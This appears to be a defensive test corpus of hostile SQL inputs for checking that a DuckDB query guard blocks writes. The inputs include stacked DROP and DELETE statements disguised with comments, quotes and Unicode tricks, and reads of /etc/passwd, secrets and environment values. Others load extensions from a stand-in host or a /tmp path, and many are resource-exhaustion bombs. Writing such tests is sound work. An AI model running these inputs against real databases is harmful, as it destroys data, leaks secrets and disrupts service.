--! Every block is one attack: a line that names the trick, then the statement as it is sent.
--! `<U+202E>` stands for that character and `<200*(>` for 200 copies.

--! stacked write after a read
SELECT 1; DROP TABLE orders
--! stacked write hidden behind a comment
SELECT 1 /* harmless */ ; /* really */ DELETE FROM orders
--! stacked write after a line comment with a carriage return
SELECT 1 --; ok
; UPDATE orders SET amount = 0
--! stacked in one line without spaces
SELECT 1;DELETE FROM customers;SELECT 2
--! plain insert
INSERT INTO customers VALUES (99, 'x', 'x', 'x', DATE '2024-01-01', 'x')
--! plain update
UPDATE customers SET name = 'x'
--! plain delete
DELETE FROM orders
--! truncate
TRUNCATE orders
--! drop
DROP TABLE orders
--! drop view
DROP VIEW big_orders
--! alter
ALTER TABLE orders ADD COLUMN x INTEGER
--! create table as
CREATE TABLE stolen AS SELECT * FROM customers
--! create or replace
CREATE OR REPLACE TABLE orders AS SELECT 1
--! create temporary
CREATE TEMP TABLE t AS SELECT 1
--! create view
CREATE VIEW v AS SELECT * FROM orders
--! create macro that shadows a function
CREATE MACRO lower(x) AS (SELECT content FROM read_text('secret.txt'))
--! create sequence
CREATE SEQUENCE s
--! create type
CREATE TYPE t AS ENUM ('a')
--! create schema
CREATE SCHEMA s
--! create secret
CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
--! drop secret
DROP SECRET s
--! create index
CREATE INDEX i ON orders (id)
--! select into
SELECT * INTO stolen FROM customers
--! delete inside a common table expression
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone
--! insert inside a common table expression
WITH new AS (INSERT INTO orders SELECT * FROM orders RETURNING *) SELECT count(*) FROM new
--! update inside a common table expression
WITH u AS (UPDATE orders SET amount = 0 RETURNING *) SELECT * FROM u
--! common table expression before a write
WITH x AS (SELECT 1) DELETE FROM orders
--! common table expression before an insert
WITH x AS (SELECT 1 AS id) INSERT INTO orders SELECT * FROM x
--! merge
MERGE INTO orders USING customers ON orders.customer_id = customers.id WHEN MATCHED THEN DELETE
--! copy out to a file
COPY customers TO 'out.csv'
--! copy a query out
COPY (SELECT * FROM customers) TO 'out.parquet' (FORMAT parquet)
--! copy in
COPY customers FROM 'secret.txt'
--! export database
EXPORT DATABASE 'dump'
--! import database
IMPORT DATABASE 'dump'
--! copy from database
COPY FROM DATABASE canary TO other
--! attach a file
ATTACH 'other.duckdb' AS other
--! attach sqlite
ATTACH 'other.db' (TYPE sqlite)
--! attach over the network
ATTACH 'https://example.org/x.duckdb' AS x
--! detach
DETACH canary
--! use
USE memory
--! install an extension
INSTALL httpfs
--! load an extension
LOAD httpfs
--! force install
FORCE INSTALL spatial FROM 'http://example.org'
--! load by path
LOAD '/tmp/evil.duckdb_extension'
--! pragma
PRAGMA database_list
--! pragma with a value
PRAGMA memory_limit='100GB'
--! pragma function form
PRAGMA table_info('orders')
--! set a setting
SET enable_external_access = true
--! set global
SET GLOBAL memory_limit = '1TB'
--! unlock settings
SET lock_configuration = false
--! reset
RESET enable_external_access
--! set variable
SET VARIABLE x = (SELECT 1)
--! read a variable
SELECT getvariable('x')
--! call
CALL pragma_version()
--! checkpoint
CHECKPOINT
--! force checkpoint
FORCE CHECKPOINT
--! vacuum
VACUUM
--! analyze
ANALYZE
--! begin
BEGIN TRANSACTION
--! commit
COMMIT
--! rollback
ROLLBACK
--! explain analyze runs what it explains
EXPLAIN ANALYZE DELETE FROM orders
--! explain of a read
EXPLAIN SELECT 1
--! prepare
PREPARE p AS DELETE FROM orders
--! execute
EXECUTE p
--! deallocate
DEALLOCATE p
--! describe
DESCRIBE orders
--! summarize
SUMMARIZE orders
--! show
SHOW ALL TABLES
--! show databases
SHOW DATABASES
--! pivot statement
PIVOT orders ON status USING sum(amount)
--! comment on
COMMENT ON TABLE orders IS 'x'
--! read a text file
SELECT * FROM read_text('secret.txt')
--! read a file by its absolute path
SELECT * FROM read_text('/etc/passwd')
--! read a blob
SELECT * FROM read_blob('secret.txt')
--! read csv
SELECT * FROM read_csv('secret.txt')
--! read csv with options
SELECT * FROM read_csv_auto('secret.txt', header = false)
--! read json
SELECT * FROM read_json('secret.txt')
--! read json objects
SELECT * FROM read_json_objects('/etc/hosts')
--! read ndjson
SELECT * FROM read_ndjson_auto('secret.txt')
--! read parquet
SELECT * FROM read_parquet('secret.parquet')
--! parquet metadata
SELECT * FROM parquet_metadata('*.parquet')
--! parquet schema
SELECT * FROM parquet_schema('secret.parquet')
--! parquet scan
SELECT * FROM parquet_scan('secret.parquet')
--! sniff csv
SELECT * FROM sniff_csv('secret.txt')
--! list files
SELECT * FROM glob('*')
--! list files of the root
SELECT * FROM glob('/**')
--! read another database file
SELECT * FROM read_duckdb('other.duckdb')
--! a file as a table
SELECT * FROM 'secret.txt'
--! a file as a table in double quotes
SELECT * FROM "secret.txt"
--! a csv file as a table
SELECT * FROM 'secret.csv'
--! a file by path
SELECT * FROM '/etc/passwd'
--! a remote file
SELECT * FROM 'https://example.org/x.csv'
--! an s3 file
SELECT * FROM 's3://bucket/x.parquet'
--! from-first with a file
FROM 'secret.txt'
--! from-first with a reader
FROM read_text('secret.txt') SELECT content
--! file named like a common table expression of an inner scope
SELECT * FROM (WITH "secret.txt" AS (SELECT 1) SELECT * FROM "secret.txt") a, "secret.txt"
--! file behind a common table expression that comes later
WITH a AS (SELECT * FROM "secret.txt"), "secret.txt" AS (SELECT 1) SELECT * FROM a
--! file reader in a scalar subquery
SELECT (SELECT content FROM read_text('secret.txt'))
--! file reader in EXISTS
SELECT 1 WHERE EXISTS (SELECT 1 FROM read_text('secret.txt') WHERE content LIKE 's%')
--! file reader in a set operation
SELECT name FROM customers UNION ALL SELECT content FROM read_text('secret.txt')
--! file reader in ORDER BY
SELECT 1 ORDER BY (SELECT content FROM read_text('secret.txt'))
--! file reader in LIMIT
SELECT 1 LIMIT (SELECT length(content) FROM read_text('secret.txt'))
--! file reader in a join condition
SELECT 1 FROM orders a JOIN orders b ON a.id = (SELECT count(*) FROM read_text('secret.txt'))
--! file reader in a lateral
SELECT * FROM orders, LATERAL (SELECT * FROM read_text('secret.txt'))
--! file reader in a window
SELECT sum(amount) OVER (ORDER BY (SELECT content FROM read_text('secret.txt'))) FROM orders
--! file reader in a CASE
SELECT CASE WHEN 1 = 1 THEN (FROM read_text('secret.txt') SELECT content) END
--! file reader in VALUES
VALUES ((SELECT content FROM read_text('secret.txt')))
--! file reader in a filter
SELECT count(*) FILTER (WHERE id IN (SELECT size FROM read_blob('secret.txt'))) FROM orders
--! file reader under another case
SELECT * FROM ReAd_TeXt('secret.txt')
--! quoted function name
SELECT * FROM "read_text"('secret.txt')
--! function with a schema
SELECT * FROM main.read_text('secret.txt')
--! function with a database and a schema
SELECT * FROM system.main.read_text('secret.txt')
--! dotted call on a text
SELECT 'secret.txt'.read_text()
--! query as a function
SELECT * FROM query('SELECT content FROM read_text(''secret.txt'')')
--! query_table
SELECT * FROM query_table('secret.txt')
--! query_table with a list
SELECT * FROM query_table(['customers', 'secret.txt'])
--! serialized plan run
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
--! serialized sql
SELECT json_serialize_sql('SELECT * FROM read_text(''secret.txt'')')
--! environment
SELECT getenv('HOME')
--! a setting
SELECT current_setting('home_directory')
--! settings table
SELECT * FROM duckdb_settings()
--! secrets table
SELECT * FROM duckdb_secrets()
--! which secret
SELECT * FROM which_secret('s3://x', 's3')
--! databases
SELECT * FROM duckdb_databases()
--! tables function
SELECT * FROM duckdb_tables()
--! columns
SELECT * FROM duckdb_columns()
--! extensions
SELECT * FROM duckdb_extensions()
--! logs
SELECT * FROM duckdb_logs
--! temporary files
SELECT * FROM duckdb_temporary_files()
--! information schema
SELECT * FROM information_schema.tables
--! information schema in other case and quotes
SELECT * FROM "INFORMATION_SCHEMA"."Tables"
--! pg_catalog
SELECT * FROM pg_catalog.pg_tables
--! pg_class by short name
SELECT * FROM pg_class
--! sqlite master
SELECT * FROM sqlite_master
--! another database
SELECT * FROM system.information_schema.tables
--! temp schema
SELECT * FROM temp.main.orders
--! pragma as a table
SELECT * FROM pragma_table_info('orders')
--! pragma storage
SELECT * FROM pragma_storage_info('orders')
--! version
SELECT version()
--! current query
SELECT current_query()
--! current database
SELECT current_database()
--! session user
SELECT current_user
--! sequence
SELECT nextval('order_ids')
--! sequence value
SELECT currval('order_ids')
--! set a sequence
SELECT setval('order_ids', 1)
--! transaction id
SELECT txid_current()
--! write a log
SELECT write_log('x')
--! enable logging
CALL enable_logging()
--! log as a table function
SELECT * FROM enable_logging()
--! checkpoint as a table function
SELECT * FROM checkpoint()
--! sleep
SELECT sleep_ms(100000)
--! raise an error with data
SELECT error((SELECT email FROM customers LIMIT 1))
--! set the random seed
SELECT setseed(0.5)
--! recursion without end
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x) SELECT count(*) FROM x
--! recursion with USING KEY
WITH RECURSIVE x(n) USING KEY (n) AS (SELECT 1 UNION SELECT n + 1 FROM x) FROM x
--! series bomb
SELECT count(*) FROM range(100000000000)
--! series bomb in a scalar
SELECT generate_series(1, 1000000000)
--! series whose end is computed
SELECT count(*) FROM range(1000 * 1000 * 1000 * 1000)
--! series whose end comes from data
SELECT range(id * 1000000000) FROM orders
--! series with a zero step
SELECT * FROM range(0, 10, 0)
--! series of series
SELECT count(*) FROM range(100000) a, range(100000) b, range(100000) c
--! series in a list function
SELECT list_transform(range(100000), x -> list_sum(range(100000)))
--! text bomb
SELECT repeat('x', 1000000000)
--! text bomb with an expression
SELECT repeat('x', 100000 * 100000)
--! text bomb in layers
SELECT length(repeat(repeat('x', 10000), 10000))
--! text bomb through a subquery
SELECT repeat(a, 10000) FROM (SELECT repeat('x', 10000) AS a)
--! padding bomb
SELECT lpad('x', 1000000000, 'y')
--! right padding bomb
SELECT rpad('x', 2147483647, 'y')
--! format bomb
SELECT printf('%1000000000d', 1)
--! format bomb with a star
SELECT printf('%*d', 1000000000, 1)
--! format bomb of the other kind
SELECT format('{:>1000000000}', 1)
--! repeat as a table
SELECT * FROM repeat('x', 1000000000000)
--! repeat row
SELECT * FROM repeat_row(1, 2, num_rows = 100000000000)
--! cross join bomb
SELECT count(*) FROM orders a, orders b, orders c, orders d, orders e, orders f
--! cross join bomb with words
SELECT count(*) FROM orders a CROSS JOIN orders b CROSS JOIN orders c CROSS JOIN orders d CROSS JOIN orders e
--! cross join bomb with a true condition
SELECT count(*) FROM orders a JOIN orders b ON true JOIN orders c ON 1 = 1 JOIN orders d ON true JOIN orders e ON true
--! cross join bomb in subqueries
SELECT count(*) FROM (SELECT 1 FROM orders a, orders b) x, (SELECT 1 FROM orders a, orders b) y, (SELECT 1 FROM orders a, orders b) z
--! list bomb
SELECT list_resize([1], 1000000000)
--! array resize
SELECT array_resize([1], 1000000000)
--! bar chart bomb
SELECT bar(1, 0, 1, 1000000000)
--! pattern bomb
SELECT count(*) FROM customers WHERE name LIKE '%a%a%a%a%a%a%a%a%a%a%a%'
--! deep parentheses
SELECT <300*(>1<300*)>
--! unclosed parentheses
SELECT <5000*(>
--! deep brackets
SELECT <300*[>1<300*]>
--! long chain of operators
SELECT 1<9000* + 1>
--! long chain of NOT
SELECT <9000*NOT >true
--! deep CASE
SELECT <200*CASE WHEN true THEN >1<200* END>
--! deep subqueries
SELECT * FROM <200*(SELECT * FROM >orders<200*)>
--! huge statement
SELECT '<120000*x>'
--! many words
SELECT 1<15000*, 1>
--! text that doubles in every layer
SELECT length(a) FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT 'xxxxxxxx' AS a))))
--! parameter
SELECT * FROM orders WHERE id = ?
--! numbered parameter
SELECT * FROM orders WHERE id = $1
--! named parameter
SELECT * FROM orders WHERE id = $id
--! colon parameter
SELECT * FROM orders WHERE id = :id
--! escape text
SELECT e'\x41'
--! dollar text around a statement
SELECT $$; DROP TABLE orders; --$$
--! tagged dollar text
SELECT $a$'; DROP TABLE orders; --$a$
--! text with a backslash before the quote
SELECT 'x\'; DROP TABLE orders; --'
--! doubled quotes and a stacked write
SELECT 'it''s'; DROP TABLE orders --'
--! quoted name with a stacked write
SELECT 1 AS "x""; DROP TABLE orders; --"
--! unclosed text
SELECT 'x; DROP TABLE orders
--! unclosed name
SELECT "x; DROP TABLE orders
--! unclosed comment
SELECT 1 /* ; DROP TABLE orders
--! nested comment
SELECT 1 /* a /* b */ ; DROP TABLE orders; -- */
--! executable comment of another engine
SELECT 1 /*! ; DROP TABLE orders */
--! comment in the middle of a word
SEL/**/ECT 1
--! comment between function and parenthesis
SELECT * FROM read_text/**/('secret.txt')
--! newline between function and parenthesis
SELECT * FROM read_text
('secret.txt')
--! full-width semicolon
SELECT 1<U+FF1B> DROP TABLE orders
--! right-to-left override
SELECT 1 <U+202E> -- elbat pord
--! zero-width space in a name
SELECT * FROM or<U+200B>ders
--! byte order mark
<U+FEFF>DROP TABLE orders
--! no-break space
SELECT<U+00A0>1;<U+00A0>DROP TABLE orders
--! line separator ends a comment for some
SELECT 1 --<U+2028>; DROP TABLE orders
--! next line character
SELECT 1 --<U+0085>; DROP TABLE orders
--! vertical tab
SELECT<U+000B>1
--! null character
SELECT 1<U+0000>; DROP TABLE orders
--! null character in text
SELECT 'a<U+0000>b'
--! escape character
SELECT 1<U+001B>[2K
--! full-width letters
SELECT * FROM ｒｅａｄ_ｔｅｘｔ('secret.txt')
--! curly quotes
SELECT * FROM ‘secret.txt’
--! Kelvin sign for a k in a name
SELECT <U+212A>urtosis(amount) FROM orders
--! unknown column by number
SELECT #1 FROM orders
--! hexadecimal number with two readings
SELECT 0xFF
--! number with a suffix
SELECT 1x
--! table at a version
SELECT * FROM orders AT (VERSION => 1)
--! positional join of a file
SELECT * FROM orders POSITIONAL JOIN 'secret.txt'
--! semi join with a file
SELECT * FROM orders SEMI JOIN 'secret.txt' USING (id)
--! columns of a file in a star
SELECT t.* FROM 'secret.txt' t
--! a macro table function of the engine
SELECT * FROM histogram_values('customers', 'id')
--! test types
SELECT * FROM test_all_types()
--! load from bigquery style prefix
SELECT * FROM `orders`; DROP TABLE orders
--! kill
KILL 1
--! listen
LISTEN x
--! meta command of a shell
.shell ls
--! meta command to open
.open other.duckdb
--! empty
;
--! only a comment
-- nothing
--! a bare word
orders
--! a bare number
42
--! attach in parentheses
(ATTACH 'x.duckdb')
--! lock
SELECT * FROM orders FOR UPDATE
--! unpivot statement
UNPIVOT orders ON id, amount
--! replace within replace
SELECT replace(replace(replace(replace(replace(replace(replace(replace(replace(replace(replace(replace(replace(replace(replace(replace(name, 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa'), 'a', 'aaaa') FROM customers
--! a list that doubles in every layer
SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT list_concat(x, x) AS x FROM (SELECT [1] AS x))))))))))))))))))))))))))))))))))))))))
--! a running value put in twice
SELECT length(list_reduce(range(60), (a, b) -> concat(a, a)))
--! a running value put in twice by keyword
SELECT list_reduce(['a', 'b'], lambda a, b: a || a || b)
--! text that doubles from one WITH to the next
WITH a0 AS (SELECT name AS x FROM customers), a1 AS (SELECT concat(x, x) AS x FROM a0), a2 AS (SELECT concat(x, x) AS x FROM a1), a3 AS (SELECT concat(x, x) AS x FROM a2), a4 AS (SELECT concat(x, x) AS x FROM a3), a5 AS (SELECT concat(x, x) AS x FROM a4), a6 AS (SELECT concat(x, x) AS x FROM a5), a7 AS (SELECT concat(x, x) AS x FROM a6), a8 AS (SELECT concat(x, x) AS x FROM a7), a9 AS (SELECT concat(x, x) AS x FROM a8), a10 AS (SELECT concat(x, x) AS x FROM a9), a11 AS (SELECT concat(x, x) AS x FROM a10), a12 AS (SELECT concat(x, x) AS x FROM a11), a13 AS (SELECT concat(x, x) AS x FROM a12), a14 AS (SELECT concat(x, x) AS x FROM a13), a15 AS (SELECT concat(x, x) AS x FROM a14), a16 AS (SELECT concat(x, x) AS x FROM a15), a17 AS (SELECT concat(x, x) AS x FROM a16), a18 AS (SELECT concat(x, x) AS x FROM a17), a19 AS (SELECT concat(x, x) AS x FROM a18), a20 AS (SELECT concat(x, x) AS x FROM a19), a21 AS (SELECT concat(x, x) AS x FROM a20), a22 AS (SELECT concat(x, x) AS x FROM a21), a23 AS (SELECT concat(x, x) AS x FROM a22), a24 AS (SELECT concat(x, x) AS x FROM a23), a25 AS (SELECT concat(x, x) AS x FROM a24), a26 AS (SELECT concat(x, x) AS x FROM a25), a27 AS (SELECT concat(x, x) AS x FROM a26), a28 AS (SELECT concat(x, x) AS x FROM a27), a29 AS (SELECT concat(x, x) AS x FROM a28), a30 AS (SELECT concat(x, x) AS x FROM a29), a31 AS (SELECT concat(x, x) AS x FROM a30), a32 AS (SELECT concat(x, x) AS x FROM a31), a33 AS (SELECT concat(x, x) AS x FROM a32), a34 AS (SELECT concat(x, x) AS x FROM a33), a35 AS (SELECT concat(x, x) AS x FROM a34), a36 AS (SELECT concat(x, x) AS x FROM a35), a37 AS (SELECT concat(x, x) AS x FROM a36), a38 AS (SELECT concat(x, x) AS x FROM a37), a39 AS (SELECT concat(x, x) AS x FROM a38), a40 AS (SELECT concat(x, x) AS x FROM a39) SELECT length(x) FROM a40
--! escapes within escapes
SELECT to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(to_json(name)))))))))))))))))))))))))))))))))))))))) FROM customers
